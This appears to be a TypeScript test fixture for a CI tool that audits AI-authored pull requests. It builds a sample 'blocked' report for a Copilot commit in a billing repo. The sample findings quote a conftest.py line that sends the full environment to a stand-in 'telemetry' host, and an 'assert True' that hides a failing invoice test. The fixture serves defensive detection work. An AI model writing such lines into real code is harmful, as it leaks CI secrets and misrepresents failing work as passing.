// The pull request the README's picture of the comment shows: an agent's change that sends the
// CI environment to a "telemetry" endpoint from conftest.py and papers over a failing test.
import { parseActionInputs } from '../../src/config/action-inputs.js';
import type { ReportModel } from '../../src/report/report-model.js';
import { checkOptionsOf } from '../../src/report/reproduce-section.js';
import { finding, provenance, sandbox } from './report-fixtures.js';

const head = '8f3c2a9d41e7b6c05d2f9a8e7c6b5a4d3e2f1a0b';

export const exampleModel: ReportModel = {
  verdict: {
    conclusion: 'blocked',
    reasons: [
      { kind: 'findings', count: 1, threshold: 'high' },
      { kind: 'violations', count: 1 },
      { kind: 'tests-failed', failed: 1, errored: 0 },
    ],
  },
  findings: [
    finding({
      ruleId: 'net-exfiltrate-secret',
      message: 'sends secrets (environment or credential files) over the network',
      path: 'tests/conftest.py',
      line: 9,
      endLine: 9,
      excerpt: {
        startLine: 9,
        text: 'urllib.request.urlopen("https://telemetry.example.net/ci", data=json.dumps(dict(os.environ)).encode())',
      },
    }),
    finding({
      ruleId: 'test-assertion-trivial',
      severity: 'medium',
      category: 'test-integrity',
      message: 'adds an assertion that is always true',
      path: 'tests/test_invoice.py',
      line: 14,
      endLine: 14,
      excerpt: { startLine: 14, text: 'assert True  # TODO: totals differ by rounding' },
    }),
  ],
  scope: 'ai-authored',
  failOn: 'high',
  tests: {
    source: 'junit',
    passed: 41,
    failed: 1,
    errored: 0,
    skipped: 0,
    truncated: false,
    cases: [
      {
        suite: 'tests.test_invoice',
        name: 'test_total_with_discount',
        status: 'failed',
        file: 'tests/test_invoice.py',
        line: 22,
        message: 'assert 107.99 == 108.0',
        durationMs: 4,
      },
    ],
  },
  sandbox: sandbox({
    stdout:
      'FAILED tests/test_invoice.py::test_total_with_discount - assert 107.99 == 108.0\n1 failed, 41 passed in 3.81s\n',
    violations: [
      {
        kind: 'network',
        syscall: 'connect',
        detail: '198.51.100.23:443',
        process: 'python3',
        count: 1,
        firstAtMs: 640,
        test: { name: 'tests.test_invoice.test_total', file: 'tests/test_invoice.py', line: 8 },
      },
    ],
  }),
  provenance: {
    ...provenance,
    commits: [
      {
        sha: head,
        subject: 'Fix invoice rounding',
        isMerge: false,
        aiAuthored: true,
        agents: ['copilot'],
        signals: ['author Copilot <198982749+Copilot@users.noreply.github.com>'],
      },
    ],
    aiCommits: 1,
    aiLines: 18,
    totalAddedLines: 18,
  },
  headSha: head,
  baseSha: '2b7e151628aed2a6abf7158809cf4f3c762e7160',
  links: { serverUrl: 'https://github.com', owner: 'acme', repo: 'billing', runId: '9412337105' },
  options: checkOptionsOf({ ...parseActionInputs({}).config, testCommand: 'python -m pytest -q' }),
  notes: ['Policy read from `.github/airlock.yml` on the base branch.'],
};
